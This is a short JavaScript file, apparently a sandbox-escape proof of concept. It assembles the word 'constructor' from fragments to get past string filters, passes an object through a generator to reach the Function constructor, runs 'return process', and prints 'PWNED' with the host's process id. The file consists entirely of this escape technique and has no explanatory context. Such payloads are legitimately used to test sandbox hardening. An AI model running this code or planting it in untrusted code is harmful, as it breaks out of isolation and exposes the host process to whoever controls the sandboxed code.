'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
function* g() { const got = yield 1; yield got; }
const it = g();
it.next();
const o = Date.now() > 1 ? it.next(t).value : {};
console.log('PWNED', o.go(fn)('return process')().pid);
